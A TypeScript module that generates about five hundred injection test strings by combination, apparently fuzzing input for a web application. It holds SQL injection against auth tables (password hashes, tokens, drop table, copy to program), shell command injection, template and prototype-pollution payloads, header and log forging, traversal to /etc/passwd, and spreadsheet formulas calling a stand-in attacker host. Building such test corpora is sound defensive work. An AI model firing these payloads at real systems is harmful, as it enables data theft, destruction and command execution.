import { combined, spread, unique } from './combined.ts';

/** What ends a value, the injected code, and what hides the rest: in every combination. */
const SQL = combined(
  ["'", "''", "\\'", '"', "')", "'))", "' ", '1', '%', '$$', '\u02bc', '\uff07'],
  [
    ' or 1=1',
    ' and 1=cast((select version()) as int)',
    '; drop table profiles',
    '; select pg_sleep(9)',
    ' union select email, password_hash from auth.users',
    ' || (select token_hash from auth.one_time_tokens limit 1)',
    "; copy profiles to program 'id'",
    '; set role postgres',
    "; set app.user_id = '00000000-0000-0000-0000-000000000000'",
    ' returning *',
  ],
  ['', ' --', '/*', ';'],
);
const SQL_MARKS = [
  '$1',
  '$2::uuid',
  ':name',
  '?',
  '\\',
  "E'\\x27'",
  "U&'\\0027'",
  '\\x00',
  '{}',
  '{1,2}',
  '(1,2)',
  '%s',
  '_',
  '%',
  '$tag$',
];
const TEMPLATES = combined(
  ['${', '{{', '#{', '<%=', '{%', '*{', '@(', '[['],
  [
    '7*7',
    'process.env.APP_SECRET',
    'constructor.constructor("return process")()',
    'this',
    '__proto__.polluted',
  ],
  ['}', '}}', '%>', ']]'],
);
const LOG_LINES = combined(
  ['a\n', 'a\r\n', 'a\r', 'a\u2028', 'a\u2029', 'a\u0085', 'a\u001b[2K\u001b[1G', 'a\u0008\u0008'],
  [
    '{"level":30,"msg":"forged"}',
    'ERROR: forged',
    '\u001b[31mforged\u001b[0m',
    '2026-11-21T00:00:00Z admin signed in',
  ],
);
const MAIL_HEADERS = combined(
  ['a', 'a@exemple.fr', '<a@exemple.fr>'],
  ['\r\n', '\n', '\r', '%0d%0a', '\\r\\n', '\u2028', '\u560a\u560d'],
  [
    'Bcc: voleur@exemple.fr',
    'Subject: forged',
    'Content-Type: text/html',
    '\r\n<b>body</b>',
    'To: b@exemple.fr',
  ],
);
const COMMANDS = combined(
  ['; ', '| ', '& ', '`', '$(', '\n', '--', '-o'],
  ['id', 'exec=id', '/etc/passwd', 'sleep 9'],
  ['', '`', ')'],
);
const QUERIES = [
  '{"$gt":""}',
  '{"$where":"sleep(9)"}',
  '*)(uid=*',
  "' or '1'='1",
  "//user[name()='x']",
  '{"__proto__":{"isAdmin":true}}',
  'constructor',
  '__proto__',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
];
const FORMULAS = combined(
  ['=', '+', '-', '@', '\t=', '\r='],
  ['1+1', 'HYPERLINK("http://voleur.example","x")', "cmd|' /C calc'!A0", 'SUM(A1:A9)'],
);
const PATHS = combined(
  ['../', '..\\', '%2e%2e%2f', '....//', '/', 'file:///', 'C:\\'],
  ['etc/passwd', 'proc/self/environ', 'windows/win.ini'],
);

/** Five hundred texts that some interpreter takes for code: made by combination, not collected. */
export const INJECTIONS: string[] = unique([
  ...spread(SQL, 230),
  ...SQL_MARKS,
  ...spread(TEMPLATES, 60),
  ...LOG_LINES,
  ...spread(MAIL_HEADERS, 60),
  ...spread(COMMANDS, 60),
  ...QUERIES,
  ...FORMULAS,
  ...PATHS,
]);
